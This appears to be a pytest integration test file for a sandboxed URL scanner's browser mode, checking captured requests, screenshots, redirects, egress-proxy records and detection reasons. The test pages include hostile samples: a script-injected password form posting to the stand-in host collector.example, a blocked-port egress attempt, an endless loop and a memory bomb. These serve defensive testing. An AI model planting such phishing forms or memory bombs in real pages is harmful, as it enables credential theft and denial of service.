"""Browser scans end to end: ``scanbox submit --mode browser``, a real ``scanbox worker``, the
browser image in its sandbox, its only way out the test's egress proxy, pages on loopback.

What a capture keeps is checked from the database, the artifact store and the command line:
the requests with their hashes, the screenshot, the redirect chain, the egress proxy's record
of every connection, the browser-only reasons of the verdict.
"""

from __future__ import annotations

import hashlib
import json
import signal
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import docker
import docker.errors
import pytest
from redis import Redis

from statemachine.states import State
from tests.apiserver import api_server, make_key
from tests.browser import decode_png
from tests.integration.conftest import scanbox_containers, settings_from
from tests.integration.test_reliability import FAST_RECOVERY
from tests.services import poll, unavailable, worker_processes
from tests.sites import Site, serve
from tests.unit.fetcher.servers import SilentListener
from worker.app.clients import dispatcher
from worker.app.database import open_database
from worker.store import queries
from worker.store.artifacts import ArtifactStore
from worker.submit.batch import submit_urls

PIXEL_PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c63f8cfc0f01f0005000201a5f0e3a7"
    "0000000049454e44ae426082"
)


@pytest.fixture(scope="module")
def browser_image(docker_client: docker.DockerClient) -> str:
    image = "scanbox-browser:latest"
    try:
        docker_client.images.get(image)
    except docker.errors.ImageNotFound:
        unavailable(f"the browser image {image} (scripts/build-browser-image.sh)")
    return image


@pytest.fixture
def site() -> Iterator[Site]:
    with serve() as served:
        yield served


@pytest.fixture
def browser_env(
    scan_env: dict[str, str], browser_image: str, tmp_path: Path, site: Site, egress_dir: Path
) -> dict[str, str]:
    """The test's scan settings, with a proxy that allows only the site's port on 127.0.0.1:
    the worker starts it (nothing answers in its directory)."""
    return scan_env | {
        "EGRESS_DIR": f"{egress_dir}-browser",
        "BROWSER_IMAGE": browser_image,
        "BROWSER_TIMEOUT_MS": "40000",
        "ARTIFACT_DIR": str(tmp_path / "artifacts"),
        "FETCHER_ALLOW_NETWORKS": "127.0.0.1/32",
        "FETCHER_ALLOWED_PORTS": str(site.port),
    }


def _scanbox(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "worker", *args],
        env=env,
        capture_output=True,
        timeout=120,
        check=False,
    )


def _browser_scan(env: dict[str, str], url: str, tmp_path: Path) -> tuple[Any, Any]:
    settings = settings_from(env)
    db = open_database(settings)
    redis = Redis.from_url(settings.effective_redis_url)
    [job_id] = submit_urls([url], db=db, dispatcher=dispatcher(settings, redis), mode="browser")
    redis.close()
    with worker_processes(env, tmp_path) as workers:
        assert workers.run("--burst", "--concurrency", "1", timeout_s=180) == 0
    return queries.get_job(db, job_id), queries.get_result(db, job_id)


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def test_a_browser_scan_keeps_every_request_a_screenshot_and_each_peer(
    browser_env: dict[str, str], site: Site, tmp_path: Path, docker_client: docker.DockerClient
) -> None:
    page = (
        b"<!doctype html><html><head><title>served</title></head><body>"
        b"<h1>Scripted</h1><img src='/pixel.png'>"
        b"<script>document.title = 'set by script'; fetch('/api');</script></body></html>"
    )
    api = b'{"answer": 42}'
    site.page("/", page)
    site.page("/api", api, content_type="application/json")
    site.page("/pixel.png", PIXEL_PNG, content_type="image/png")

    job, result = _browser_scan(browser_env, site.url("/"), tmp_path)

    assert job.state == State.COMPLETED, job.error_message
    assert (job.mode, job.memory_limit_mb, job.timeout_ms) == ("browser", 1536, 40000)
    assert (result.title, result.status_code) == ("set by script", 200)
    by_path = {r["url"].removeprefix(site.url("")): r for r in result.report["requests"]}
    for path, body in (("/", page), ("/api", api), ("/pixel.png", PIXEL_PNG)):
        assert by_path[path]["sha256"] == sha256(body), path
    assert result.sha256 == sha256(page)
    # The proxy's record gives each connection's peer; every one was allowed.
    assert result.egress
    assert {(c["host"], c["connected"], c["decision"]) for c in result.egress} == {
        ("127.0.0.1", "127.0.0.1", "allowed")
    }
    assert result.peer_address == "127.0.0.1"
    # The artifacts are in the store by their hash, and come out whole.
    names = {item["name"]: item for item in result.artifacts}
    assert {"screenshot", "dom", "har"} <= set(names)
    store = ArtifactStore(Path(browser_env["ARTIFACT_DIR"]))
    for item in result.artifacts:
        assert sha256(store.read(item["sha256"]) or b"") == item["sha256"]
    out = tmp_path / "shot.png"
    written = _scanbox(browser_env, "artifact", job.id, "screenshot", "-o", str(out))
    assert written.returncode == 0, written.stderr
    width, height = decode_png(out.read_bytes())
    assert (width, height) == (1280, result.report["screenshot"]["height"])
    har = json.loads(_scanbox(browser_env, "artifact", job.id, "har").stdout)
    assert har["log"]["version"] == "1.2"
    shown = json.loads(_scanbox(browser_env, "show", job.id, "--json").stdout)
    assert shown["mode"] == "browser"
    assert shown["result"]["artifacts"] == result.artifacts
    human = _scanbox(browser_env, "show", job.id).stdout.decode()
    assert "scanbox artifact" in human
    assert scanbox_containers(docker_client, [job.id]) == []


def test_a_delayed_script_redirect_is_a_hop_and_a_reason(
    browser_env: dict[str, str], site: Site, tmp_path: Path
) -> None:
    site.page(
        "/",
        b"<title>wait</title><script>setTimeout(() => location.href = '/landed', 2000)</script>",
    )
    site.page("/landed", b"<title>landed</title>")

    job, result = _browser_scan(browser_env, site.url("/"), tmp_path)

    assert job.state == State.COMPLETED, job.error_message
    assert result.final_url == site.url("/landed")
    kinds = [(hop["url"], hop["kind"]) for hop in result.report["redirects"]]
    assert kinds == [(site.url("/"), "initial"), (site.url("/landed"), "script")]
    assert "delayed_script_redirect" in {reason["rule"] for reason in result.reasons}


def test_a_page_that_reaches_for_what_is_not_allowed_gets_nothing_and_it_is_a_reason(
    browser_env: dict[str, str], site: Site, tmp_path: Path
) -> None:
    canary = SilentListener(host="127.0.0.1")
    try:
        site.page(
            "/",
            (
                f"<title>reaching</title><img src='http://127.0.0.1:{canary.port}/x.png'>"
                f"<script>fetch('http://127.0.0.1:{canary.port}/api').catch(() => 0);"
                "navigator.serviceWorker && navigator.serviceWorker.register('/sw.js')"
                ".catch(() => 0);</script>"
            ).encode(),
        )
        job, result = _browser_scan(browser_env, site.url("/"), tmp_path)
        assert canary.connection_count() == 0
    finally:
        canary.close()

    assert job.state == State.COMPLETED, job.error_message
    refused = [c for c in result.egress if c["decision"] == "refused"]
    assert refused
    assert {c["port"] for c in refused} == {canary.port}
    assert "egress_refused" in {reason["rule"] for reason in result.reasons}


def test_an_endless_script_loop_ends_timed_out_with_no_container_left(
    browser_env: dict[str, str], site: Site, tmp_path: Path, docker_client: docker.DockerClient
) -> None:
    site.page("/", b"<title>spin</title><script>for (;;) {}</script>")
    env = browser_env | {"BROWSER_TIMEOUT_MS": "15000", "MAX_ATTEMPTS": "1"}

    job, result = _browser_scan(env, site.url("/"), tmp_path)

    assert job.state == State.TIMED_OUT, (job.state, job.error_code, job.error_message)
    assert result is None
    assert scanbox_containers(docker_client, [job.id]) == []


def test_a_worker_without_the_egress_proxy_refuses_browser_scans_at_once(
    browser_env: dict[str, str], site: Site, tmp_path: Path
) -> None:
    site.page("/", b"<title>x</title>")
    env = browser_env | {"FETCHER_NETWORK": "host"}

    job, _ = _browser_scan(env, site.url("/"), tmp_path)

    assert (job.state, job.error_code, job.attempts) == (State.FAILED, "mode_unavailable", 1)


def test_a_warm_browser_container_captures_as_a_cold_one_does(
    browser_env: dict[str, str], site: Site, tmp_path: Path, docker_client: docker.DockerClient
) -> None:
    site.page("/", b"<title>warm</title><script>document.title = 'warm and scripted'</script>")
    env = browser_env | {"BROWSER_STANDBY_CONTAINERS": "1"}

    job, result = _browser_scan(env, site.url("/"), tmp_path)

    assert job.state == State.COMPLETED, job.error_message
    assert result.title == "warm and scripted"
    assert {"screenshot", "dom", "har"} <= {item["name"] for item in result.artifacts}
    assert result.egress
    assert {c["decision"] for c in result.egress} == {"allowed"}
    # The pool's spare container went with its worker.
    managed = docker_client.containers.list(
        all=True, filters={"label": "org.scanbox.managed"}, ignore_removed=True
    )
    assert [c.name for c in managed if "browser" in (c.image.tags or [""])[0]] == []


def test_the_api_serves_a_browser_scans_artifacts_as_downloads_and_its_page_shows_them(
    browser_env: dict[str, str], site: Site, tmp_path: Path
) -> None:
    site.page("/", b"<title>for the api</title><script>fetch('/api')</script>")
    site.page("/api", b"[]", content_type="application/json")
    job, result = _browser_scan(browser_env, site.url("/"), tmp_path)
    assert job.state == State.COMPLETED, job.error_message
    env = browser_env | {"API_SECRET": "s" * 32}
    _, key = make_key(env["TURSO_CONNECTION_URL"], scope="read")
    with api_server(env, tmp_path) as server:
        client = server.client(key)
        document = client.get(f"/v1/scans/{job.id}").json()
        listed = client.get(f"/v1/scans/{job.id}/artifacts").json()
        shot = client.get(f"/v1/scans/{job.id}/artifacts/screenshot")
        missing = client.get(f"/v1/scans/{job.id}/artifacts/video")
        login = server.client().post(
            "/login",
            body=f"key={key}".encode(),
            headers={
                "Content-Type": "application/x-www-form-urlencoded",
                "Origin": f"http://127.0.0.1:{server.port}",
            },
        )
        cookie = login.headers.get("set-cookie", "").split(";")[0]
        page = server.client().get(f"/scans/{job.id}", headers={"Cookie": cookie})

    assert document["mode"] == "browser"
    assert {"screenshot", "dom", "har", "report.json"} <= {a["name"] for a in listed["artifacts"]}
    declared = {item["name"]: item for item in result.artifacts}
    assert shot.status == 200
    assert sha256(shot.body) == declared["screenshot"]["sha256"]
    assert shot.headers["content-type"].startswith("image/png")
    assert shot.headers["content-disposition"].startswith("attachment")
    assert shot.headers["content-security-policy"].startswith("sandbox")
    assert shot.headers["x-content-type-options"] == "nosniff"
    assert missing.status == 404
    assert missing.headers["content-type"] == "application/problem+json"
    assert page.status == 200, page.body[:300]
    assert f"/v1/scans/{job.id}/artifacts/screenshot".encode() in page.body
    assert b"Connections (egress proxy)" in page.body


def test_a_password_form_a_script_adds_is_seen_in_the_rendered_dom(
    browser_env: dict[str, str], site: Site, tmp_path: Path
) -> None:
    site.page(
        "/",
        b"<title>sign in</title><div id='here'></div><script>"
        b"document.getElementById('here').innerHTML = "
        b"\"<form method='post' action='https://collector.example/take'>"
        b"<input name='user'><input type='password' name='pass'></form>\";"
        b"</script>",
    )

    job, result = _browser_scan(browser_env, site.url("/"), tmp_path)

    assert job.state == State.COMPLETED, job.error_message
    [form] = result.report["forms"]
    assert (form["action_host"], form["has_password"], form["cross_origin"]) == (
        "collector.example",
        True,
        True,
    )
    assert "password_form_cross_origin" in {reason["rule"] for reason in result.reasons}


def test_a_capture_whose_worker_is_killed_completes_on_another_with_no_container_left(
    browser_env: dict[str, str], site: Site, tmp_path: Path, docker_client: docker.DockerClient
) -> None:
    env = browser_env | FAST_RECOVERY
    release = threading.Event()
    site.held_page("/", b"<title>held</title>", release=release)
    settings = settings_from(env)
    db = open_database(settings)
    redis = Redis.from_url(settings.effective_redis_url)
    [job_id] = submit_urls(
        [site.url("/")], db=db, dispatcher=dispatcher(settings, redis), mode="browser"
    )
    redis.close()
    with worker_processes(env, tmp_path) as workers:
        first = workers.start("--concurrency", "1")
        poll(
            lambda: True if scanbox_containers(docker_client, [job_id]) else None,
            timeout_s=60,
            what="the browser container",
        )
        first.send_signal(signal.SIGKILL)
        first.wait(timeout=10)
        release.set()
        workers.start("--concurrency", "1")
        poll(
            lambda: True if queries.get_job(db, job_id).state == State.COMPLETED else None,
            timeout_s=120,
            what="the capture to complete on the second worker",
        )
        poll(
            lambda: True if scanbox_containers(docker_client, [job_id]) == [] else None,
            timeout_s=60,
            what="the killed worker's browser container to be reaped",
        )
    job = queries.get_job(db, job_id)
    assert job.attempts == 2
    result = queries.get_result(db, job_id)
    assert result is not None
    assert result.title == "held"


def test_a_memory_bomb_ends_failed_out_of_memory_with_no_container_left(
    browser_env: dict[str, str], site: Site, tmp_path: Path, docker_client: docker.DockerClient
) -> None:
    site.page(
        "/",
        b"<title>bomb</title><script>const kept = [];"
        b"for (;;) { kept.push(new Array(1 << 20).fill(kept.length)); }</script>",
    )
    env = browser_env | {
        "BROWSER_MEMORY_LIMIT_MB": "384",
        "BROWSER_TIMEOUT_MS": "20000",
        "MAX_ATTEMPTS": "1",
    }

    job, result = _browser_scan(env, site.url("/"), tmp_path)

    assert (job.state, job.error_code, job.oom_killed) == (State.FAILED, "oom_killed", True), (
        job.error_message
    )
    assert result is None
    assert scanbox_containers(docker_client, [job.id]) == []
